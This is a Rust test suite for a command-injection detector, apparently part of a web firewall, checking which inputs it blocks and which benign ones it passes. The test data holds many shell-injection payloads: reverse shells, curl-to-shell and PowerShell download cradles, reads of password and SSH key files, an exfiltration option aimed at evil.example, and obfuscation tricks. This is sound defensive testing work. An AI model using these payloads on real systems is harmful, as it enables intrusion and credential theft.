use crate::detectors::testing::{blocks, look, passes, passes_at};
use crate::{Analysis, Class, Detectors, Level, Location, Place};

fn with(text: &str, check: impl FnOnce(&Analysis, &Detectors)) {
    let detectors = Detectors::new();
    let mut analysis = Analysis::new();
    analysis.value(&detectors, Location::new(Place::Form, b"q"), text.as_bytes());
    check(&analysis, &detectors);
}

/// The kinds found in `text`, mentioned ones with `~`.
fn kinds(text: &str) -> String {
    let mut names = Vec::new();
    with(text, |analysis, _| {
        for f in analysis.findings().iter().filter(|f| f.kind.id.starts_with("command.")) {
            names.push(format!("{}{}", &f.kind.id["command.".len()..], if f.mentioned { "~" } else { "" }));
        }
    });
    names.join(" ")
}

/// `text` has all of `wanted`.
#[track_caller]
fn check(text: &str, wanted: &str) {
    let have = kinds(text);
    for kind in wanted.split_whitespace() {
        assert!(have.split_whitespace().any(|k| k == kind), "{text}\n  wanted {kind}\n  have   {have}");
    }
}

fn is_blocked(text: &str, level: Level) -> bool {
    let mut blocked = false;
    with(text, |analysis, detectors| {
        blocked = analysis.scores(detectors).any(|s| s.class.name() == "command" && s.blocks(level));
    });
    blocked
}

#[test]
fn positions() {
    check("1; cat /etc/passwd", "semicolon reading sensitive-file");
    check("x.jpg|whoami", "pipe recon bare");
    check("a && ls -la /", "logical listing path");
    check("127.0.0.1\nid", "newline recon");
    check("admin;ls", "semicolon listing bare");
    check("a;id;", "semicolon recon bare");
    check("1 & calc.exe", "ampersand system bare");
    check("; ps aux", "semicolon recon argument");
    check("$(</etc/passwd)", "substitution sensitive-file");
    check("cd /tmp || cd /var/run; rm -rf *; wget http://192.0.2.1/x", "listing logical system network");
    check("$(sleep 5)", "substitution delay number");
    check("`id`", "substitution recon bare");
    check("1';uname -a;'", "semicolon recon quote-break");
    check(";export x=id;$x", "semicolon recon");
    check("127.0.0.1;telnetd", "semicolon network bare");
    check("&for /f %i in ('whoami') do ping %i.x.example", "loop");
    check("1|for /f \"delims=\" %A in ('ver') do @echo %A", "loop");
    assert!(!kinds("for /f and 5 % in (all) cases").contains("loop"));
    // The apostrophe of a word opens no string.
    assert!(!kinds("it's so: grep -v '#' && ls -la").contains("quote-break"));
    check("+|+dir+c:\\", "pipe listing path");
    check("net user hacker Password1 /ADD", "whole recon argument");
}

#[test]
fn written_otherwise() {
    check(";c''at /etc/passwd", "split-name sensitive-file");
    check(";c\\at /et\\c/passwd", "split-name sensitive-file");
    check(";/???/??t /???/p??s??", "glob-name sensitive-file");
    check("&&head /et\"c\"/pa's'swd", "split-name sensitive-file");
    // Here a string of the program around the command ends, and another one begins much later.
    let listing = "run(\"stop it && echo {q} stopped\", shell)\n\nThen look at the \"log\"";
    assert!(!kinds(listing).contains("split-name"));
    check(";{cat,/etc/passwd}", "brace-list sensitive-file");
    check(";cat$IFS$9/etc/passwd", "ifs sensitive-file");
    check(";who$@ami", "assembled-name recon");
    check(";a=c;b=at;$a$b /etc/passwd", "assembled-name sensitive-file");
    check("x&&X=$'cat\\x20/etc/passwd'&&$X", "assembled-name reading");
    check("|w^h^o^a^m^i", "carets recon");
    check(";%COMSPEC% /c whoami", "assembled-name code-argument");
}

#[test]
fn what_it_does() {
    check("1;curl http://a.example/x|sh", "piped-to-shell network host");
    check("1;echo aWQ=|base64 -d|sh", "piped-to-shell");
    check("& bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "reverse-shell");
    check(";nc -e /bin/sh 192.0.2.1 4444", "reverse-shell");
    check(";python3 -c 'import os;os.system(\"id\")'", "code-argument");
    check("1;find / -name x -exec id \\;", "exec-argument");
    check("() { :;}; /bin/bash -c 'id'", "shellshock");
    check("powershell -enc SQBFAFgA", "encoded-powershell");
    check("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')", "powershell-download");
    check("-oProxyCommand=id", "option-injection");
}

#[test]
fn benign() {
    for text in [
        "fish; cat food",
        "tom & cat",
        "en|id|ms",
        "name;id;type",
        "BASE; SET SWAROVSKI",
        "in motion; set in motion",
        "tropical shrub; source of croton oil",
        "echo park | los angeles",
        "curl iron & dryer",
        "ls swap 350",
        "a=1&id=2&sort=name",
        "http://a.example/?a=1&id",
        "text/html; q=0.9, image/*; q=0.5",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
        "Tom &amp; cat food",
        "git clone https://github.com/org/repo.git && cd repo && make",
        "kubectl get pods -n kube-system | grep -v Running",
        "if [ -f x ]; then cat x; fi",
        "The `id` column",
        "See `whoami` for details",
        "Use `git status` and `ls -la`",
        "npm install && npm run build",
        "ssh user@example.com",
        "price|id",
        "de|nl|id",
        "first; last; who",
        "he said; 'echo' is nice",
        "net use; net income",
        "setup.exe",
        "Use `ls -la` to list files, `cat README.md` to read it, and `git status` to see what has changed in them.",
        "C:\\Program Files\\App\\bin;%PATH%",
        "permission denied: /var/www/html/index.php; run chmod 644 and try again",
        "query GetUser($id: ID!) { user(id: $id) { id name } }",
        "who is it; more or less the head of sales & the last one to leave | sort of",
    ] {
        // Back-ticks around a command run it, in a field that is for no text.
        assert!(text.contains('`') || !is_blocked(text, Level::Balanced), "{text}: {}", kinds(text));
        passes(Class::Command, text);
    }
}

/// Words, separators and the like in the order of a sentence or a list never make a call.
#[test]
fn plain_words_never_block() {
    let words = [
        "find", "more", "who", "date", "host", "sort", "time", "last", "less", "test", "make", "top", "type",
        "set", "at", "id",
    ];
    let signs = ["; ", " & ", " | ", ";", "|", ", ", " - ", "\n"];
    let mut state = 1u32;
    let mut next = |n: usize| {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (state >> 16) as usize % n
    };
    let detectors = Detectors::new();
    let mut analysis = Analysis::new();
    for _ in 0..400 {
        let mut text = String::from("the new ");
        for _ in 0..4 {
            text.push_str(words[next(words.len())]);
            text.push_str(" of it");
            text.push_str(signs[next(signs.len())]);
        }
        analysis.clear();
        analysis.value(&detectors, Location::new(Place::Form, b"text"), text.as_bytes());
        let blocked =
            analysis.scores(&detectors).any(|s| s.class.name() == "command" && s.blocks(Level::Balanced));
        assert!(!blocked, "{text}");
    }
}

/// However it is written, it stays blocked.
#[test]
fn mutations_keep_a_detection() {
    let starts = ["1;", "x.jpg|", "a && ", "127.0.0.1\n", "'; ", "$("];
    let names = [
        "cat",
        "c''at",
        "c\"\"at",
        "c\\at",
        "'cat'",
        "ca$@t",
        "c$()at",
        "/bin/cat",
        "/bin/c?t",
        "c${zz}at",
        "$'\\x63at'",
    ];
    let spaces = [" ", "  ", "\t", "$IFS", "${IFS}", "$IFS$9"];
    let files = ["/etc/passwd", "/etc/passw?", "/e''tc/passwd", "/etc/pass\\wd", "'/etc/passwd'"];
    for start in starts {
        for name in names {
            for space in spaces {
                for file in files {
                    let end = if start == "$(" { ")" } else { "" };
                    let text = format!("{start}{name}{space}{file}{end}");
                    assert!(is_blocked_fast(&text), "{text}: {}", kinds(&text));
                }
            }
        }
    }
}

fn is_blocked_fast(text: &str) -> bool {
    thread_local!(static DETECTORS: Detectors = Detectors::new());
    DETECTORS.with(|detectors| {
        let mut analysis = Analysis::new();
        analysis.value(detectors, Location::new(Place::Form, b"q"), text.as_bytes());
        analysis.scores(detectors).any(|s| s.class.name() == "command" && s.blocks(Level::Balanced))
    })
}

/// Twice the text takes about twice the findings' work: what is read at one place is bounded.
#[test]
fn hostile_texts_end() {
    for unit in [";$(", "`", ";a=$b", ";\"", ";'", "|{a,", ";cat ", "$((", "&%a:~", ";c\\"] {
        let text = unit.repeat(20_000);
        kinds(&text);
    }
}

/// What developers paste and people write is no call that an attack would be.
#[test]
fn pasted_lines() {
    for text in [
        "node server.js",
        "cd ~/projects/app && make test",
        "chmod +x deploy.sh && ./deploy.sh",
        "pip install requests && python setup.py install",
        "chmod 755 script.sh and run ./script.sh",
        "```bash",
        "```sh\nnpm test\n```",
        "```\nRun `whoami` to see your user.\n```",
        "I wrote `ps aux | grep node` yesterday, see log",
        "java -jar app.jar",
        "<p>Text &amp; more &lt;b&gt;</p>",
        "prices & more </li>",
    ] {
        passes(Class::Command, text);
    }
    blocks(Class::Command, "npm i; cat /etc/passwd", "reading sensitive-file");
    passes(Class::Command, "df -h");
    passes(Class::Command, "ls | grep foo; echo $?");
    passes(Class::Command, "The R&D? It is theirs");
    passes(Class::Command, "{\"a\":1,\"b\":2}");
    blocks(Class::Command, "x=`ps aux | grep node`", "recon pipe");
    blocks(Class::Command, ";df -h", "listing");
    blocks(Class::Command, "{wget,http://a.example/x,-O,/tmp/x}", "network host brace-list");
    blocks(Class::Command, "{ls,-la}", "listing brace-list");
    blocks(Class::Command, "touch /tmp/x", "system path");
    blocks(
        Class::Command,
        "*/5 * * * * root /usr/bin/perl -e 'exec(\"/bin/sh\")'",
        "interpreter code-argument",
    );
    blocks(Class::Command, "; cat$u+/etc$u/passwd$u", "reading sensitive-file");
}

/// Filters of templates, scripts of a package, columns in back-ticks.
#[test]
fn names_with_another_meaning() {
    for text in [
        "sent {{ \"now\" | date }} to you",
        "{% for x in 'ab' | sort %}",
        "name `id`, type `date`",
        "SELECT a.`id` FROM `users`",
    ] {
        let (have, is_blocked) =
            crate::detectors::testing::look(Class::Command, Place::Query, "q", text.as_bytes());
        assert!(!have.contains("bare") && !have.contains("recon"), "{text}: {have} {is_blocked}");
    }
    let at = |name: &str| {
        let line = b"tsc -p . || exit 0; cat dist/report.txt";
        crate::detectors::testing::look(Class::Command, Place::Json, name, line).0
    };
    assert!(at("versions.1.scripts.build").contains("reading~"), "{}", at("versions.1.scripts.build"));
    assert!(at("run").contains("reading") && !at("run").contains("reading~"), "{}", at("run"));
}

#[test]
fn what_the_field_is_for() {
    let blocked = |name: &str, text: &str| {
        crate::detectors::testing::look(Class::Command, Place::Form, name, text.as_bytes()).1
    };
    assert!(blocked("host", "x|id") && blocked("old", "test|id"));
    assert!(!blocked("sort", "name|id") && !blocked("text", "name|id"));
}

#[test]
fn loads_writes_and_moves() {
    blocks(Class::Command, "curl https://a.example/x.txt", "network host fetch");
    blocks(Class::Command, "ping.exe -n 31 127.0.0.1", "network host number");
    blocks(Class::Command, "file.txt|tee /var/www/x.php", "pipe output path");
    blocks(Class::Command, "\\necho x\\nexit\\n\\033[2Acurl https://a.example/x", "terminal");
    passes(Class::Command, "curl -s https://api.a.example/v1/status | jq .");
    passes(Class::Command, "\x1b[32mok\x1b[0m 3 tests passed");
}

#[test]
fn names_that_are_no_commands() {
    passes(Class::Command, "[^\\w\\s]");
    passes(Class::Command, "python -m http.server");
    check("; python -m http.server", "interpreter semicolon");
    blocks(Class::Command, "/[bu]in/[c]at /etc/passwd", "glob-name sensitive-file");
    blocks(Class::Command, "x; & ('w'+'hoami')", "assembled-name");
    blocks(Class::Command, "& (\"i\"+\"ex\") \"whoami\"", "assembled-name");
    passes(Class::Command, "Tom & ('Jerry'+'Spike') are in it");
    // However many redirections stand before and after it.
    let redirections = ">/tmp/x ".repeat(40);
    check(&format!("; {redirections} cat {redirections} /etc/passwd"), "semicolon reading sensitive-file");
}

/// A name alone between two quotes and separators, a text that is put into a file, and formulas.
#[test]
fn signs_on_both_sides() {
    blocks(Class::Command, "';backup;'", "semicolon unknown");
    blocks(Class::Command, "\";backup;\"", "semicolon unknown");
    blocks(Class::Command, "1|echo 'x' > /www/htdocs/x.txt", "pipe output path");
    blocks(Class::Command, "+WEBSERVICE(\"http://a.example/?x=\"&A1)", "formula");
    blocks(Class::Command, "@exec(\"calc\")", "formula");
    for text in ["'red;green;'blue", "it's; then; she's", "1|echo 'x' > /dev/null", "=SUM(A1:A9)"] {
        passes(Class::Command, text);
    }
    let in_field = |name, text: &str| look(Class::Command, Place::Json, name, text.as_bytes());
    let link = "=HYPERLINK(\"https://a.example/?id=\"&A1,\"x\")";
    for name in ["formula", "expression", "cells", "comment"] {
        assert!(!in_field(name, link).1, "{name}");
    }
    assert!(in_field("company", link).1 && in_field("formula", "=DDE(\"cmd\";\"/C calc\";\"x\")").1);
}

#[test]
fn short_ones() {
    for (text, wanted) in [
        (";reboot;", "semicolon bare-word"),
        ("`reboot`", "substitution bare-word"),
        ("&set", "ampersand bare-word"),
        ("x & set /a 7*7", "ampersand recon option"),
        ("|gci", "pipe listing bare"),
        ("$(gc C:\\Windows\\win.ini)", "substitution reading sensitive-file"),
        (";iex(iwr 192.0.2.1/a)", "semicolon cmdlet expansion"),
        (";eval id", "semicolon interpreter argument"),
        (";expr 7 \\* 191", "semicolon recon number"),
        ("& start calc", "ampersand prefixed bare-word"),
        ("whoami /priv", "whole recon option"),
        ("$((71*13))", "computed"),
        (";$env:USERNAME", "variable"),
        ("ext::sh -c id", "option-injection"),
        ("=cmd|' /C calc'!A0", "spreadsheet"),
    ] {
        blocks(Class::Command, text, wanted);
    }
    for text in [
        "dinner & set",
        "set -e",
        "12 pieces & set of 2",
        "Use `reboot` to restart it",
        "EUR|GCI|JER",
        "$((i+1))",
        "total=$((3*4))",
        "cd x; $env:NODE_ENV='test'; npm run build",
        "$env:PATH",
        "text::extended",
        "a|'b'!",
        "calc & notes",
    ] {
        passes(Class::Command, text);
    }
    let host =
        |text: &[u8]| crate::detectors::testing::look(Class::Command, Place::MultipartField, "host", text).1;
    assert!(host(b"a\r\nid\r\n") && !host(b"a\r\nname\r\n"));
}

/// Words of the shell's own, directly behind a separator, and a command after them, which alone may be an
/// item of a list.
#[test]
fn compound_commands() {
    use crate::detectors::testing::{blocks, passes_at};
    for text in [
        "x;if true;then id;fi",
        "x;for i in 1;do id;done",
        "x;until id;do :;done",
        "x;command id",
        "x;! id",
        "a&&if id",
    ] {
        blocks(Class::Command, text, "recon bare");
    }
    for text in [
        "if you log in; then id is shown",
        "name;id;type",
        "do;id",
        "if;then;else;id",
        "first; if id is empty, then the name",
    ] {
        passes_at(Class::Command, Place::Query, "q", text);
    }
}

#[test]
fn calls_of_dotnet_and_parts_of_variables() {
    use crate::Place;
    use crate::detectors::testing::passes_at;
    for (text, kind) in [
        (";[System.Diagnostics.Process]::Start('calc')", "dotnet"),
        ("; $x=New-Object Net.Sockets.TCPClient('10.0.0.1',4444)", "dotnet"),
        ("x;(new-object -com wscript.shell).run('calc')", "dotnet"),
        ("& who%x:~0,1%ami", "cmd-variable"),
        ("a;timeout 5 sh", "prefixed bare-word"),
        ("-exec id ;", "option-injection"),
        (";ip a", "recon"),
        ("x;{ id;}", "recon"),
        ("x;cat${PATH:0:1}etc${PATH:0:1}passwd", "cmd-variable"),
        ("x;$(rev<<<'imaohw')", "here-string"),
        ("-T/etc/passwd http://evil.example", "option-injection"),
        ("-e/bin/sh 10.0.0.1 4444", "option-injection"),
        ("-Fx=@/etc/passwd evil.example", "option-injection"),
    ] {
        blocks(Class::Command, text, kind);
    }
    for text in [
        "std::vec![Entry]::new(1)",
        "[size]::Start(1)",
        "new-object storage in the cloud",
        "backup_%date:~0,4%.zip",
        "-exec option of find",
        "app-${GIT_SHA:0:7}.zip",
        "-a/b testing",
        "name;ip address;mac",
        "a; timeout 5 sh",
    ] {
        passes_at(Class::Command, Place::Query, "q", text);
    }
}

/// `coupon_code` takes no code, and in what does, one line with a command directly behind a word does not
/// count.
#[test]
fn fields_with_code_in_their_names() {
    use crate::detectors::testing::look;
    let is_blocked = |place, name: &str, text: &str| look(Class::Command, place, name, text.as_bytes()).1;
    for place in [Place::Form, Place::Json, Place::MultipartField] {
        for (name, text) in [
            ("coupon_code", "x;nc -e /bin/sh 10.0.0.1 4444"),
            ("zip_code", "$(curl http://evil.example/|sh)"),
            ("lead_source", "127.0.0.1;id"),
            ("code", "x;nc -e /bin/sh 10.0.0.1 4444"),
            ("source", "x|cat /etc/passwd"),
            ("code", "x$(cat /etc/passwd)"),
            ("code", ";id"),
            ("code", "#!/bin/sh\ncurl http://a.example/ | sh"),
            ("script", "#!/bin/sh\ncurl http://a.example/x -o /tmp/x && sh /tmp/x"),
        ] {
            assert!(is_blocked(place, name, text), "{name}={text}");
        }
        for (name, text) in [
            ("code", "SUMMER-24;FREE"),
            ("coupon_code", "SUMMER-24;FREE"),
            ("code", "print(1)\nimport os"),
            ("source_code", "#!/bin/sh\nset -e\ncat /etc/os-release | sort\n"),
            ("code", "a=1; ls -la"),
            ("script", "npm ci && cat package.json"),
        ] {
            assert!(!is_blocked(place, name, text), "{name}={text}");
        }
    }
}

/// Comparisons and sentences with words that are commands, too.
#[test]
fn words_of_conditions_and_sentences() {
    for text in [
        "country in ['DE'] || env == 'dev'",
        "debug && env === 'prod'",
        "debug && env = 'prod'",
        "user && id > 5",
        "user && id >= 5 && id < 20",
        "Stage || env is prod",
        "be there at 5 && id required",
        "Call me; tee time 7:30",
    ] {
        assert!(!is_blocked(text, Level::Balanced), "{text}: {}", kinds(text));
    }
    for text in [
        "127.0.0.1;id",
        "a || env",
        "a && id -u",
        "a && id root",
        "a && id www-data",
        "a && env > /tmp/x",
        "a && id > 5/x",
        "a | tee /tmp/x",
        "a; tee /var/www/x.php",
        "a && env X=1 id",
        "a && env id",
    ] {
        assert!(is_blocked(text, Level::Balanced), "{text}: {}", kinds(text));
    }
}

/// What a block runs is a command behind the separator before the block.
#[test]
fn blocks_before_commands() {
    for text in [
        "127.0.0.1;if(1){gc c:\\x}",
        "127.0.0.1;&{iwr http://evil.example}",
        "127.0.0.1;1|%{whoami}",
        "127.0.0.1;icm {whoami}",
        "127.0.0.1&if exist c:\\x whoami",
        "127.0.0.1&for %i in (1) do ping -n 9 127.0.0.1",
        "127.0.0.1&for /f %i in (c:\\x) do nslookup a.evil.example",
        "127.0.0.1&call whoami",
        "127.0.0.1;f(){ id;};f",
        "127.0.0.1;cat<flag",
        "127.0.0.1;Start-Sleep 5",
        "$(<config.php)",
        "x$(<../config.php)",
    ] {
        assert!(is_blocked(text, Level::Balanced), "{text}: {}", kinds(text));
    }
    for text in [
        "if (x) { return y }",
        "a=1;if(x){return y}",
        "awk '{print $1}'",
        "R&D if possible",
        "a=1&for=2",
        "a|%{id}|%{date}",
        "for(i=0;cat<cats.length;cat++){}",
        "class A{x=1;f(){ return 1 }}",
        "$(<b>x</b>)",
        "Rock&call me",
    ] {
        assert!(!is_blocked(text, Level::Balanced), "{text}: {}", kinds(text));
    }
}

/// A command that no table has: one word before the separator, and a file, a pattern or a redirection behind.
#[test]
fn unknown_programs_alone() {
    for text in [
        ";frobnicate config.php",
        "; frobnicate config.php",
        "x;frobnicate config.php",
        "x|frobnicate config.php",
        "&frobnicate config.php",
        "$(frobnicate config.php >&2)",
        "`frobnicate config.php >&2`",
        "';frobnicate config.php;'",
        ";frobnicate -Rs . config.php",
        ";'frobnicate' config.php",
        ";f\"robnicat\"e config.php",
        ";\\frobnicate config.php",
        ";frobnicate c*",
        ";frobnicate ????????hp",
        ";frobnicate a a <config.php",
        ";frobnicate >pwned",
        ";. *",
        "x;. conf",
        "x;>out.txt",
        ";\"$SHELL\" config.php",
        ";frobnicate new",
        ";[ -f config.php ]",
        "x;sleep 000000007",
        "x;sleep 0x7",
    ] {
        let (kinds, is_blocked) = look(Class::Command, Place::Form, "host", text.as_bytes());
        assert!(is_blocked, "{text}: {kinds}");
    }
    for text in [
        "a;b",
        "red|dark blue",
        "S;M;extra large",
        "Done, thanks; see notes.txt",
        "please read it;see notes.txt",
        "file;name=a.txt",
        "see notes.txt",
        "a > b",
        "x<5",
        "salt & pepper",
        "AC/DC;live",
        "tea&cake",
        "a;what now??",
        "inline; filename=a.txt",
        "name;asc",
        "x;y z",
        "*;q=0.5",
        "$(this)",
        "`code`",
        "Line one\nsee notes.txt",
        "R&D v2.txt",
        "5;10 a.txt",
        ";)",
    ] {
        let (kinds, is_blocked) = look(Class::Command, Place::Form, "tags", text.as_bytes());
        assert!(!is_blocked, "{text}: {kinds}");
    }
}

/// In a field for one machine a separator and whatever name behind it is a command.
#[test]
fn commands_in_fields_for_machines() {
    for text in [
        ";frobnicate",
        "a;frobnicate a b",
        "10.0.0.1|frobnicate 'x' > f",
        "x&&frobnicate it",
        "$(frobnicate)",
        "`frobnicate`",
        "x&frob^nicate",
        "a;frobnicate x;b",
        "|expr 848881667 + 930444816",
        "x&frobnicate a",
        "x;frob*te a",
    ] {
        let (kinds, is_blocked) = look(Class::Command, Place::Query, "host", text.as_bytes());
        assert!(is_blocked, "{text}: {kinds}");
    }
    for text in [
        "web1.example",
        "web1.example:80",
        "web1|web2",
        "a;b;c",
        "a.example\nb.example",
        "web1, web2",
        "${HOST}",
        "[::1]",
        "*.example",
        "a.example; b.example",
        "~^www\\d+\\.example$",
        "Laptop (old)",
    ] {
        let (kinds, is_blocked) = look(Class::Command, Place::Query, "host", text.as_bytes());
        assert!(!is_blocked, "{text}: {kinds}");
    }
}

/// A line of a setup that a backslash continues belongs to the instruction that it begins with.
#[test]
fn instructions_of_several_lines() {
    let passes = |text: &str| passes_at(Class::Command, Place::Form, "dockerfile", text);
    passes(
        "FROM debian\nRUN apt-get update \\\n && apt-get install -y curl \\\n    && rm -rf /tmp/x\nUSER app\n",
    );
    passes(
        "FROM debian\nRUN apt-get update && \\\n    curl -fsSL https://example.com/key.asc | gpg --dearmor -o /k.gpg\n",
    );
    // Nothing before it says what it belongs to, or it directly follows what stands before it.
    for text in ["hello \\\n;cat /etc/passwd", "FROM debian\nRUN x \\\n y;cat /etc/passwd"] {
        let (have, is_blocked) = look(Class::Command, Place::Form, "dockerfile", text.as_bytes());
        assert!(is_blocked, "{text}: {have}");
    }
}

/// `ver` shows the version of Windows, and is "to see" in Spanish, Portuguese and Galician.
#[test]
fn a_word_of_a_language() {
    for text in ["Haz clic aquí; ver el vídeo", "Inicio | Ver todo", "Comprar & ver ofertas", "Antes; ver"]
    {
        passes_at(Class::Command, Place::Query, "q", text);
    }
    blocks(Class::Command, "&ver", "recon");
    blocks(Class::Command, "|ver", "recon");
}

/// Two commands are all of a text, and the second one reads what no sentence names.
#[test]
fn command_lines_that_nothing_speaks_of() {
    for field in ["comment", "description", "q"] {
        for text in ["ls; cat /etc/passwd", "id;head -1 /etc/shadow", "uname -a && cat ~/.ssh/id_rsa"] {
            let (have, is_blocked) = look(Class::Command, Place::Form, field, text.as_bytes());
            assert!(is_blocked, "{field}: {text}: {have}");
        }
    }
    for text in [
        "Run `ls; cat /etc/passwd` to see them.",
        "cd app; npm install",
        "git add . && git commit -m 'x'",
        "cd /srv/app; tail -f app.log",
    ] {
        passes_at(Class::Command, Place::Form, "comment", text);
    }
}

/// A setting that is a command line, and an item of a list that sets a variable, begin a line as commands do.
#[test]
fn lines_of_settings_in_texts() {
    for text in [
        "My unit:\n```ini\n[Service]\nExecStart=/bin/sh -c '/usr/local/bin/backup.sh; echo $? > /run/backup.rc'\n```",
        "Is it ok?\nExecStart=/bin/bash -c '/opt/app/sync; echo done'\nRestart=always",
        "script:\n  - export V=$(git rev-parse --short HEAD)\n  - make; ls -l dist\n",
    ] {
        passes_at(Class::Command, Place::Form, "comment", text);
    }
    for text in [
        "ExecStart=/bin/sh;cat /etc/passwd",
        "x=/bin/sh -c id;cat /etc/shadow",
        "ExecStart=/tmp/x -c 'a'; cat /etc/shadow",
        "- ;cat /etc/passwd",
        "- x;cat /etc/passwd",
        "ExecStart=/bin/sh -c 'c''at /etc/passwd;id'; c''at /etc/shadow",
    ] {
        let (have, is_blocked) = look(Class::Command, Place::Form, "comment", text.as_bytes());
        assert!(is_blocked, "{text}: {have}");
    }
    // In other fields nothing of it changes.
    for text in
        ["ExecStart=/bin/sh -c '/usr/local/bin/backup.sh; cat /etc/passwd'", "- export V=$(cat /etc/passwd)"]
    {
        blocks(Class::Command, text, "");
    }
}

/// A field for one machine has neither a list nor a sentence: a word that is called as a command is one.
#[test]
fn commands_behind_a_host() {
    for text in
        ["a;date", "a|mount", "db.example;cal", "10.0.0.1||date", "a & dir", "a ; mount", "a;date;date"]
    {
        for name in ["host", "target_ip", "ntp"] {
            let (kinds, is_blocked) = look(Class::Command, Place::Form, name, text.as_bytes());
            assert!(is_blocked, "{name}={text}: {kinds}");
        }
    }
    let (kinds, is_blocked) = look(Class::Command, Place::Form, "ntp_server", b"a;date");
    assert!(!is_blocked, "{kinds}");
    for text in [
        "web-1;web-2",
        "a.example;b.example",
        "node1|node2|node3",
        "AT & T",
        "fe80::1%eth0",
        "date.example.com",
        "mount",
        "10.0.0.1, 10.0.0.2",
        "https://a.example/?x=1&y=2",
        "web;shop",
        "https://a.example/?utm&date",
    ] {
        let (kinds, is_blocked) = look(Class::Command, Place::Form, "host", text.as_bytes());
        assert!(!is_blocked, "{text}: {kinds}");
    }
    for (name, text) in
        [("columns", "name;date"), ("tags", "mount|cal"), ("title", "Save the date; mount it")]
    {
        let (kinds, is_blocked) = look(Class::Command, Place::Form, name, text.as_bytes());
        assert!(!is_blocked, "{name}={text}: {kinds}");
    }
}

/// A quote and a separator with a command behind them are no text, in a field for one too.
#[test]
fn commands_that_are_all_of_a_text() {
    for text in [
        "';cat config.php;'",
        "\"|tac settings.py;\"",
        "'|nl config.php #",
        ";cat config.php",
        "\"&&wget http://a.example/x;\"",
        ";env -i /bin/cat config.php",
    ] {
        for name in ["message", "description", "comment"] {
            let (kinds, is_blocked) = look(Class::Command, Place::Form, name, text.as_bytes());
            assert!(is_blocked, "{name}={text}: {kinds}");
        }
    }
    for text in [
        "; cat config.php",
        "| sort -u",
        "cat config.php",
        "$ cat config.php; ls",
        ";-) cat pictures",
        "'cat' and 'dog'",
        "Try ;cat config.php there.",
        "\"cat config.php\"",
        "'; see you later'",
        ";; sort the list",
        "\"head\"; \"tail\"",
    ] {
        let (kinds, is_blocked) = look(Class::Command, Place::Form, "comment", text.as_bytes());
        assert!(!is_blocked, "{text}: {kinds}");
    }
}
